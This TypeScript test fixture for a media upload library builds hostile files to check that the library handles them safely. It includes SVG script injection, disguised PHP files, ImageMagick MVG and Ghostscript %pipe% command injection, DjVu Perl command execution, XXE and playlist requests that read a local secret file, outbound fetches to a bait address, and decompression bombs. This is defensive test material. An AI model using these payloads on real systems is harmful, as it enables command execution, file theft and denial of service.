import { deflateSync, gzipSync } from 'node:zlib'
import { drawing, gif, jpegClaiming, pngClaiming, textChunk, zipOf } from '@vitrine/media/testing/test-media.ts'

/** Where hostile files try to reach: a listener that counts who knocks, and a file that nobody may read. */
export interface Bait {
  address: string
  secret: string
}

interface HostileFile {
  name: string
  /** Of features and attacks. */
  attack: number
  content: string | Buffer
}

const html = '<!doctype html><script>alert(1)</script>'

/** Files that are something else than their names say, or that a browser would run. */
function scripts({ address }: Bait): HostileFile[] {
  const script = `<script>fetch('${address}/script')</script><rect width="9" height="9" onload="alert(1)"/>`
  return [
    { attack: 1, name: 'script.svg', content: drawing(script) },
    { attack: 1, name: 'foreign.svg', content: drawing(`<foreignObject><body onload="alert(1)"/></foreignObject>`) },
    { attack: 2, name: 'page.jpg', content: html },
    { attack: 4, name: 'a.php.jpg', content: '<?php phpinfo(); ?>' },
    { attack: 4, name: 'a.jpg.php', content: '<?php phpinfo(); ?>' },
    { attack: 4, name: 'a.HTACCESS', content: 'AddType application/x-httpd-php .jpg' },
    { attack: 4, name: 'trailing dot.jpg.', content: html },
    {
      attack: 5,
      name: 'math.xml',
      content: '<math xmlns="http://www.w3.org/1998/Math/MathML"><maction href="x"/></math>',
    },
    { attack: 5, name: 'page.xhtml', content: `<html xmlns="http://www.w3.org/1999/xhtml">${html}</html>` },
    { attack: 5, name: 'packed.svgz', content: gzipSync(drawing(script)) },
    { attack: 5, name: 'mail.mhtml', content: `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}` },
    {
      attack: 6,
      name: 'launch.pdf',
      content: '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
    },
    { attack: 7, name: 'tool.exe.jpg', content: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]) },
  ]
}

/** Files that make a reader reach out: to the network, to other files, to a shell. */
function reaching({ address, secret }: Bait): HostileFile[] {
  const packet = (inner: string) =>
    `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">${inner}</rdf:RDF></x:xmpmeta>`
  const laughs = Array.from({ length: 12 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')
  const djvu = '(metadata (Copyright "\\\n" . qx{touch /tmp/vitrine-was-here} . \\\n" b "))'
  return [
    {
      attack: 21,
      name: 'trick.mvg.jpg',
      content: `push graphic-context\nfill 'url(${address}/mvg"|touch /tmp/vitrine-was-here")'\npop graphic-context`,
    },
    {
      attack: 21,
      name: 'trick.svg',
      content: drawing(`<image href="msl:${secret}"/><image href="${address}/i.png"/><image href="file://${secret}"/>`),
    },
    {
      attack: 22,
      name: 'annotated.djvu',
      content: Buffer.from(`AT&TFORM\0\0\0\x80DJVUANTa\0\0\0\x60${djvu}`, 'latin1'),
    },
    {
      attack: 22,
      name: 'annotated.jpg',
      content: Buffer.from(`AT&TFORM\0\0\0\x80DJVUANTa\0\0\0\x60${djvu}`, 'latin1'),
    },
    {
      attack: 24,
      name: 'pipe.eps',
      content: `%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%touch /tmp/vitrine-was-here) (w) file\n(${secret}) (r) file 100 string readstring\nshowpage`,
    },
    { attack: 24, name: 'pipe.ai', content: '%!PS-Adobe-3.0\n(%pipe%touch /tmp/vitrine-was-here) (w) file' },
    {
      attack: 25,
      name: 'list.avi',
      content: `#EXTM3U\n#EXTINF:1,\n${address}/segment.ts\n#EXTINF:1,\nfile://${secret}\n`,
    },
    {
      attack: 25,
      name: 'list.m3u8',
      content: `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nconcat:${address}/h.m3u8|file://${secret}\n`,
    },
    { attack: 26, name: 'elsewhere.mp4', content: movieElsewhere(`${address}/dref`) },
    {
      attack: 29,
      name: 'outside.xmp',
      content: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file://${secret}">]>${packet('<rdf:Description dc:title="&s;" xmlns:dc="http://purl.org/dc/elements/1.1/"/>')}`,
    },
    {
      attack: 29,
      name: 'laughs.xmp',
      content: `<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]>${packet('<rdf:Description>&l12;</rdf:Description>')}`,
    },
    {
      attack: 31,
      name: 'fonts.svg',
      content: drawing(
        `<style>@font-face{font-family:x;src:url(${address}/f.woff)}</style><text font-family="x">a</text>`,
      ),
    },
    {
      attack: 31,
      name: 'linked.docx',
      content: zipOf({
        '[Content_Types].xml': '<Types/>',
        'word/document.xml': `<w:document><a:blip r:link="${address}/docx.png"/></w:document>`,
        'word/_rels/document.xml.rels': `<Relationships><Relationship Target="${address}/rel" TargetMode="External"/></Relationships>`,
      }),
    },
  ]
}

/** A QuickTime atom. */
function atom(type: string, ...parts: (Buffer | string)[]): Buffer {
  const body = Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))
  const head = Buffer.alloc(8)
  head.writeUInt32BE(body.length + 8)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, body])
}

/** A film whose pictures lie at an address. */
function movieElsewhere(url: string): Buffer {
  const reference = atom('dref', '\0\0\0\0\0\0\0\x01', atom('url ', '\0\0\0\0', `${url}\0`))
  const media = atom('mdia', atom('minf', atom('dinf', reference)))
  return Buffer.concat([atom('ftyp', 'isom\0\0\x02\0isomiso2'), atom('moov', atom('trak', media))])
}

/** Small files that grow large when they are read. */
async function bombs(jpeg: Buffer): Promise<HostileFile[]> {
  const inflated = deflateSync(Buffer.alloc(50_000_000))
  return [
    { attack: 15, name: 'flood.jpg', content: jpegClaiming(jpeg, 64_250, 64_250) },
    { attack: 16, name: 'flood.png', content: pngClaiming(200_000, 200_000) },
    {
      attack: 16,
      name: 'text bomb.png',
      content: Buffer.concat([pngClaiming(10, 10), textChunk('Comment', inflated.toString('latin1').slice(0, 60_000))]),
    },
    { attack: 17, name: 'frames.gif', content: gif({ width: 4000, height: 4000, frames: 2000 }) },
    { attack: 18, name: 'pages.tif', content: endlessTiff() },
    {
      attack: 19,
      name: 'bomb.docx',
      content: zipOf({
        '[Content_Types].xml': '<Types/>',
        'word/document.xml': 'x',
        'docProps/thumbnail.jpeg': Buffer.alloc(60_000_000),
      }),
    },
    { attack: 32, name: 'half.jpg', content: jpeg.subarray(0, 300) },
    { attack: 32, name: 'empty.jpg', content: '' },
  ]
}

/** A TIFF whose directory says that the next one is itself. */
function endlessTiff(): Buffer {
  const tiff = Buffer.alloc(26)
  tiff.write('II*\0', 0, 'latin1')
  tiff.writeUInt32LE(8, 4)
  tiff.writeUInt16LE(1, 8)
  tiff.writeUInt16LE(256, 10)
  tiff.writeUInt16LE(4, 12)
  tiff.writeUInt32LE(1, 14)
  tiff.writeUInt32LE(100, 18)
  tiff.writeUInt32LE(8, 22)
  return tiff
}

export async function hostileFiles(bait: Bait, jpeg: Buffer): Promise<HostileFile[]> {
  return [...scripts(bait), ...reaching(bait), ...(await bombs(jpeg))]
}
